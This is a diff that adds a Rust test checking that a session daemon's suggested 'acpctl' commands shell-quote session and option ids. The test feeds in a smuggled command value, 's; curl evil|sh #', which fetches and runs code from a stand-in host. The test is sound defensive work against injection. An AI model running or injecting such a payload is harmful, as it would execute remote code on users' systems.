@@ -534,3 +534,54 @@ fn a_process_of_the_last_daemon_that_is_lost_after_a_long_silence_is_replaced() 
     bench.agent_answers(&resume, &json!({}));
     bench.heard_one("session/prompt");
 }
+
+/// An id that a shell would read as commands, and that id as one word.
+const EVIL: &str = "s; curl evil|sh #";
+const QUOTED: &str = "'s; curl evil|sh #'";
+
+#[test]
+fn what_an_agent_calls_something_is_one_word_of_a_command() {
+    let mut bench = Bench::with(|profile| profile.on_lost = OnLost::Stop);
+    bench.capabilities = Some(json!({"loadSession":true}));
+    let a = bench.client(&json!({"notices":true}));
+    bench.used_session(a, EVIL);
+    let options = json!([{"optionId":"y","name":"Yes","kind":"allow_once"},
+        {"optionId":"y; curl evil|sh #","name":"Yes","kind":"allow_once"}]);
+    let params = json!({"sessionId":EVIL,"toolCall":{"toolCallId":"t"},"options":options});
+    bench.agent(&json!({"id":"q","method":"session/request_permission","params":params}));
+    let open = ask(&mut bench, a, "_acpd/interaction/list", &json!({}));
+    let id = &open["result"]["interactions"][0]["id"];
+    for answer in [json!({"kind":"allow"}), json!({"kind":"option","option":"x"})] {
+        let answer = json!({"id":id,"answer":answer});
+        let refused = ask(&mut bench, a, "_acpd/interaction/answer", &answer);
+        assert!(hint(&refused).contains("`y`, `'y; curl evil|sh #'`"), "{refused}");
+    }
+
+    let blocks = json!([{"type":"text","text":"more"}]);
+    let more = json!({"sessionId":EVIL,"prompt":blocks});
+    let refused = ask(&mut bench, a, "_session/steering", &more);
+    assert!(hint(&refused).contains(&format!("acpctl run -s {QUOTED} …")), "{refused}");
+    assert!(hint(&refused).contains(&format!("acpctl session close {QUOTED}`")), "{refused}");
+    let discard = json!({"ref":{"session":EVIL}});
+    let refused = ask(&mut bench, a, "_acpd/session/reseed", &discard);
+    assert!(hint(&refused).contains(&format!("reseed {QUOTED} --discard")), "{refused}");
+
+    bench.prompt(a, &json!(2), EVIL, "go");
+    bench.got(a);
+    bench.agent(&json!({"method":"$/cancel_request","params":{"requestId":"q"}}));
+    bench.pass(600_000);
+    let stalled = bench.got(a);
+    let told = stalled.iter().filter_map(|line| line["params"]["text"].as_str());
+    assert!(told.into_iter().any(|text| text.contains(&format!("close {QUOTED}`"))), "{stalled:?}");
+
+    bench.agent_dies();
+    bench.prompt(a, &json!(3), EVIL, "go on");
+    bench.pass(1_000);
+    let heard = bench.heard();
+    let load = heard.iter().find(|line| line["method"] == "session/load").expect("asked for");
+    bench.agent_refuses(load, -32002);
+    bench.prompt(a, &json!(4), EVIL, "and now?");
+    let got = bench.got(a);
+    let refused = got.iter().find(|line| line["id"] == 4).expect("an answer");
+    assert!(hint(refused).contains(&format!("`acpctl session reseed {QUOTED}`")), "{refused}");
+}
